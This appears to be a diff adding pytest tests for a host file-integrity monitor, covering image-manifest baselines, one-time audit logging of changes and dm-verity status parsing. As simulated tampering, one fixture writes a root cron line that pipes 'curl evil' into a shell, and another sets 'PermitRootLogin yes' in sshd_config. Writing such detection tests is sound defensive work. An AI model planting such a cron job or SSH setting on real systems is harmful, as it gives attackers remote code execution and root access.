@@ -111,3 +111,69 @@ def test_first_scan_baseline_with_dpkg_owners(tmp_path: Path) -> None:
     (host / "etc/cron.d/e2scrub_all").write_text("* * * * * root curl evil | sh\n")
     (change,) = integrity.compare(first, integrity.scan(host, ["/etc"], packages=owners))
     assert change.path == "/etc/cron.d/e2scrub_all" and change.package == "e2fsprogs"
+
+
+def test_the_image_manifest_is_the_baseline_and_changes_are_audited_once(
+        tmp_path: Path) -> None:
+    from cerulean.agent.audit import AuditLog
+
+    root = tmp_path / "host"
+    shipped(root)
+    info = root / "var/lib/dpkg/info"
+    info.mkdir(parents=True)
+    (info / "openssh-server.list").write_text("/etc/ssh\n/etc/ssh/sshd_config\n")
+    manifest = root / integrity.IMAGE_MANIFEST
+    manifest.parent.mkdir(parents=True, exist_ok=True)
+    manifest.write_bytes(integrity.image_manifest(root, image="vm", arch="amd64", version="1"))
+    assert manifest.read_bytes() == integrity.image_manifest(root, image="vm", arch="amd64",
+                                                             version="1")  # reproducible
+    base = integrity.load_baseline(root)
+    assert base.source == "image manifest" and base.dirs == ("/etc",)
+    assert "/etc/ssh/sshd_config" in base.files and not (root / integrity.FIRST_SCAN).exists()
+
+    audit = AuditLog(tmp_path / "audit.jsonl")
+    assert integrity.periodic_scan(root, audit) == (0, 0)
+    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\n")
+    assert integrity.periodic_scan(root, audit) == (1, 1)
+    assert integrity.periodic_scan(root, audit) == (1, 0)  # reported once
+    (root / "etc/ssh/sshd_config").write_text("PermitRootLogin prohibit-password\n")
+    (root / "etc/motd").write_text("hi\n")
+    assert integrity.periodic_scan(root, audit) == (2, 2)  # a new state is new again
+    entries = list(audit.entries())
+    assert [e["action"] for e in entries] == ["integrity.change"] * 3
+    first = entries[0]["detail"]
+    assert (first["path"], first["what"], first["package"], first["baseline"]) == (
+        "/etc/ssh/sshd_config", ["content"], "openssh-server", "image manifest")
+    assert first["old"]["sha256"] == hashlib.sha256(b"PermitRootLogin no\n").hexdigest()
+
+
+def test_without_an_image_manifest_the_first_scan_is_kept_and_said(tmp_path: Path) -> None:
+    root = tmp_path / "host"
+    shipped(root)
+    base = integrity.load_baseline(root, now="2026-11-27T02:00:00+00:00")
+    assert base.source == "first scan" and (root / integrity.FIRST_SCAN).exists()
+    (root / "etc/hostname").write_text("changed\n")
+    again = integrity.load_baseline(root, now="later")
+    assert again.source == "first scan" and again.made == "2026-11-27T02:00:00+00:00"
+    changes = integrity.compare(again.files, integrity.scan(root, again.dirs))
+    assert [(c.path, c.what) for c in changes] == [("/etc/hostname", ("content",))]
+    (root / integrity.FIRST_SCAN).write_text("{not json")
+    with pytest.raises(integrity.IntegrityError, match="cannot be read"):
+        integrity.load_baseline(root)
+
+
+@pytest.mark.parametrize(("rc", "out", "err", "state"), [
+    (0, "0 352256 verity V\n", "", "verified"),
+    (0, "0 352256 verity C\n", "", "corrupted"),
+    (0, "0 2048 linear \n", "", "none"),
+    (1, "", "Device does not exist.\nCommand failed.\n", "none"),
+    (1, "", "/dev/mapper/control: open failed: Permission denied\n", "unknown"),
+])
+def test_usr_verity_state(rc: int, out: str, err: str, state: str) -> None:
+    import subprocess
+
+    def run(argv: list[str], **kw: object) -> subprocess.CompletedProcess[str]:
+        assert argv == ["dmsetup", "status", "usr"]
+        return subprocess.CompletedProcess(argv, rc, out, err)
+
+    assert integrity.usr_verity(run) == state
